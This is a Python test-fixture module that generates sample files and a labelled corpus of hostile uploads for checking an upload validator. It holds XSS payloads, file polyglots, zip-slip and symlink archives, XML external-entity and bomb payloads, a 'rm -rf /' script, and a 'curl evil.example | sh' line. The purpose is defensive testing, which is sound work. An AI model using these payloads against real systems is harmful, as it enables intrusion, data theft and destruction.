"""Real files for upload tests (made by the same libraries a member's software would use), and the polyglots that an
attacker would send instead: a web page hidden in an image, a PDF, an office document or captions."""

from __future__ import annotations

import io
import zipfile
from functools import cache

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


@cache
def pdf_bytes(pages: int = 1) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def image_bytes(image_format: str = "PNG", size: tuple[int, int] = (16, 16), *, gps: bool = False) -> bytes:
    from PIL import Image

    image = Image.new("RGB", size, (200, 30, 30))
    output = io.BytesIO()
    options = {}
    if gps:  # a phone's photo: camera model and where it was taken
        exif = Image.Exif()
        exif[0x0110] = "Pixel-Test-Model-9000"  # Model
        exif[0x8825] = {1: "N", 2: (50.0, 38.0, 0.0), 3: "E", 4: (5.0, 34.0, 0.0)}  # GPSInfo (Liège)
        options["exif"] = exif
    image.save(output, format=image_format, **options)
    return output.getvalue()


def png_bytes() -> bytes:
    return image_bytes("PNG")


def png_html_polyglot() -> bytes:
    """A valid PNG with a web page in a text chunk and another after its end."""
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML.decode())
    output = io.BytesIO()
    Image.new("RGB", (16, 16), (0, 120, 200)).save(output, format="PNG", pnginfo=info)
    return output.getvalue() + HTML


def pdf_html_polyglot() -> bytes:
    """A PDF that parses (offsets intact) with a web page in a comment after its header."""
    return pdf_bytes() + b"%" + HTML + b"\n"


def pdf_with_page_after_end() -> bytes:
    return pdf_bytes() + HTML


def docx_bytes(*, comment: bytes = b"", appended: bytes = b"") -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types '
                         'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        archive.writestr("word/document.xml", "<w:document/>")
        archive.comment = comment
    return output.getvalue() + appended


_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
_ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
           'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"')


def _zip(entries: dict[str, str | bytes], *, stored_first: bool = False) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries.items()):
            archive.writestr(name, data, zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED)
    return output.getvalue()


def _ooxml_types() -> str:
    return ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')


def docx_with_text(*paragraphs: str, xml: str | None = None) -> bytes:
    """A Word document whose paragraphs hold `paragraphs` (each split into two runs, with a tab in the middle)."""
    body = "".join(
        f'<w:p><w:r><w:t>{p[:len(p) // 2]}</w:t></w:r><w:r><w:t>{p[len(p) // 2:]}</w:t></w:r></w:p>'
        for p in paragraphs)
    document = xml or f'<?xml version="1.0"?><w:document xmlns:w="{_W_NS}"><w:body>{body}</w:body></w:document>'
    return _zip({"[Content_Types].xml": _ooxml_types(), "word/document.xml": document})


def pptx_with_text(*slides: str) -> bytes:
    """A presentation of one slide per text (numbered past 9, to check their order)."""
    entries: dict[str, str | bytes] = {"[Content_Types].xml": _ooxml_types()}
    for number, text in enumerate(slides, start=1):
        entries[f"ppt/slides/slide{number * 5}.xml"] = (
            f'<?xml version="1.0"?><p:sld xmlns:p="p" xmlns:a="{_A_NS}">'
            f"<a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:sld>")
    return _zip(entries)


def opendocument_with_text(kind: str, *paragraphs: str, heading: str = "") -> bytes:
    """A Writer ("text") or Impress ("presentation") file whose content holds a heading and `paragraphs`."""
    title = f"<text:h>{heading}</text:h>" if heading else ""
    body = "".join(f"<text:p>{p.replace(' ', '<text:s/>', 1)}</text:p>" for p in paragraphs)
    content = (f'<?xml version="1.0"?><office:document-content {_ODF_NS}><office:body>{title}{body}'
               "</office:body></office:document-content>")
    return _zip({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": content,
                 "META-INF/manifest.xml": "<manifest/>"}, stored_first=True)


def xlsx_bytes() -> bytes:
    return _zip({"[Content_Types].xml": _ooxml_types(), "xl/workbook.xml": "<workbook/>"})


def bomb_png(side: int = 20_000) -> bytes:
    """A small file that decodes to side × side pixels (a decompression bomb)."""
    from PIL import Image

    output = io.BytesIO()
    Image.new("1", (side, side)).save(output, format="PNG", optimize=True)
    return output.getvalue()


def webvtt_with_markup() -> bytes:
    return (b"WEBVTT\n\nSTYLE\n::cue { background: url(https://evil.example/x) }\n\nNOTE " + HTML + b"\n\n"
            b"1\n00:00.000 --> 00:02.000 align:start\n<v Dr Martin><b>D\xc3\xa9sinfectez</b> la peau "
            b"<script>alert(1)</script><img src=x onerror=alert(2)>\n\n"
            b"00:02.000 --> 00:04.000\n<c.red>Piquez</c> &amp; injectez\n")


def pdf_with_text(text: str) -> bytes:
    """A one-page PDF whose page shows `text` (Helvetica, WinAnsi): what a word processor's export holds."""
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    font = DictionaryObject({
        NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica"), NameObject("/Encoding"): NameObject("/WinAnsiEncoding"),
    })
    page[NameObject("/Resources")] = DictionaryObject({
        NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})})
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 12 Tf 72 720 Td ({escaped}) Tj ET".encode("cp1252"))
    page[NameObject("/Contents")] = writer._add_object(stream)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


# --- The hostile upload corpus (praxis/testing/tests/test_upload_corpus.py) ----------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    import struct
    import zlib

    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_with_header(width: int, height: int) -> bytes:
    """A PNG whose header claims width × height pixels, with almost no data (a pixel flood)."""
    import struct
    import zlib

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + _png_chunk(b"IEND", b""))


def jpeg_with_comment(comment: bytes) -> bytes:
    """A JPEG with a comment segment (COM) holding `comment`, and the same text after its end."""
    data = image_bytes("JPEG")
    import struct

    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return data[:2] + segment + data[2:] + comment


def pdf_with_javascript() -> bytes:
    """A PDF that runs JavaScript when opened (OpenAction) and can launch a program (Launch)."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert('pwned');")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_with_attachment() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("readme.html", HTML)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def zip_with(entries: dict[str, bytes], *, symlink: str | None = None) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
        if symlink:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = (0o120777 << 16)  # a symbolic link
            archive.writestr(info, "/etc/passwd")
    return output.getvalue()


ENTITY_BOMB = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
               + b"".join(b'<!ENTITY %c "%s">' % (ord("a") + level, b"&%c;" % (ord("a") + level - 1) * 10)
                          for level in range(1, 6))
               + b"]><l>&f;</l>")
EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
EXECUTABLE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
              + b"This program cannot be run")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


def hostile_files() -> list[tuple[str, str, bytes]]:
    """At least 50 files an attacker would upload: (label, file name, bytes). Every one must be refused with a clear
    message or stored neutralised (re-encoded, renamed), never as sent."""
    ooxml = {"[Content_Types].xml": _ooxml_types().encode(), "word/document.xml": b"<w:document/>"}
    clean_pdf = pdf_bytes()
    files = [
        ("png+html", "photo.png", png_html_polyglot()),
        ("jpeg+html comment", "photo.jpg", jpeg_with_comment(HTML)),
        ("photo with gps", "photo.jpg", image_bytes("JPEG", gps=True)),
        ("decompression bomb", "bomb.png", bomb_png()),
        ("pixel flood 65535²", "flood.png", png_with_header(65535, 65535)),
        ("truncated png", "cut.png", png_bytes()[:40]),
        ("gifar", "image.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + zip_with({"META-INF/MANIFEST.MF": b"x"})),
        ("svg with script as png", "image.png", SVG),
        ("svg", "image.svg", SVG),
        ("bmp", "image.bmp", image_bytes("BMP")),
        ("tiff", "image.tif", image_bytes("TIFF")),
        ("webp header only", "image.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 "),
        ("pdf+html", "doc.pdf", pdf_html_polyglot()),
        ("pdf with page after end", "doc.pdf", pdf_with_page_after_end()),
        ("pdf with javascript", "doc.pdf", pdf_with_javascript()),
        ("pdf with html attachment", "doc.pdf", pdf_with_attachment()),
        ("html before pdf", "doc.pdf", HTML + clean_pdf),
        ("html as pdf", "doc.pdf", HTML),
        ("truncated pdf", "doc.pdf", clean_pdf[: len(clean_pdf) // 2]),
        ("eicar as pdf", "doc.pdf", EICAR),
        ("docx+appended html", "doc.docx", docx_bytes(appended=HTML)),
        ("docx with zip comment", "doc.docx", docx_bytes(comment=HTML)),
        ("docx with macros", "doc.docx", zip_with({**ooxml, "word/vbaProject.bin": EXECUTABLE})),
        ("docx zip slip", "doc.docx", zip_with({**ooxml, "../../../../tmp/evil.sh": b"#!/bin/sh\nrm -rf /\n"})),
        ("docx with symlink", "doc.docx", zip_with(ooxml, symlink="word/link.xml")),
        ("docx entity bomb", "doc.docx", zip_with({**ooxml, "word/document.xml": ENTITY_BOMB})),
        ("docx external entity", "doc.docx", zip_with({**ooxml, "word/document.xml": EXTERNAL_ENTITY})),
        ("docx zip bomb", "doc.docx", zip_with({**ooxml, "word/media/big.bin": b"\x00" * 60_000_000})),
        ("zip slip", "cours.zip", zip_with({"imsmanifest.xml": b"<manifest/>", "../evil.html": HTML})),
        ("zip with symlink", "cours.zip", zip_with({"imsmanifest.xml": b"<manifest/>"}, symlink="index.html")),
        ("zip entity bomb", "cours.zip", zip_with({"imsmanifest.xml": ENTITY_BOMB})),
        ("zip external entity", "cours.zip", zip_with({"imsmanifest.xml": EXTERNAL_ENTITY})),
        ("zip bomb", "cours.zip", zip_with({"imsmanifest.xml": b"<manifest/>", "big.bin": b"\x00" * 60_000_000})),
        ("zip of html", "cours.zip", zip_with({"index.html": HTML})),
        ("executable as pdf", "doc.pdf", EXECUTABLE),
        ("executable as png", "photo.png", EXECUTABLE),
        ("executable as docx", "doc.docx", EXECUTABLE),
        ("executable as zip", "cours.zip", EXECUTABLE),
        ("executable as vtt", "sous-titres.vtt", EXECUTABLE),
        ("elf as mp4", "video.mp4", ELF),
        ("executable named exe", "setup.exe", EXECUTABLE),
        ("shell script as csv", "liste.csv", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("html as vtt", "sous-titres.vtt", HTML),
        ("vtt with markup", "sous-titres.vtt", webvtt_with_markup()),
        ("srt with html", "sous-titres.srt", b"1\n00:00:01,000 --> 00:00:02,000\n" + HTML + b"\n"),
        ("vtt broken timing", "sous-titres.vtt", b"WEBVTT\n\n00:05.000 --> 00:01.000\nHop\n"),
        ("empty pdf", "doc.pdf", b""),
        ("empty png", "photo.png", b""),
        ("empty zip", "cours.zip", b""),
        ("empty vtt", "sous-titres.vtt", b""),
        ("truncated mp4", "video.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"),
        ("name with ../", "../../../etc/passwd.pdf", clean_pdf),
        ("name with NUL", "doc\x00.html.pdf", clean_pdf),
        ("name with right-to-left mark", "facture\u202efdp.exe", clean_pdf),
        ("name of 300 characters", "a" * 296 + ".pdf", clean_pdf),
        ("name with html", "<img src=x onerror=alert(1)>.pdf", clean_pdf),
        ("utf-16 html", "doc.pdf", "<html><script>alert(1)</script>".encode("utf-16")),
    ]
    return files
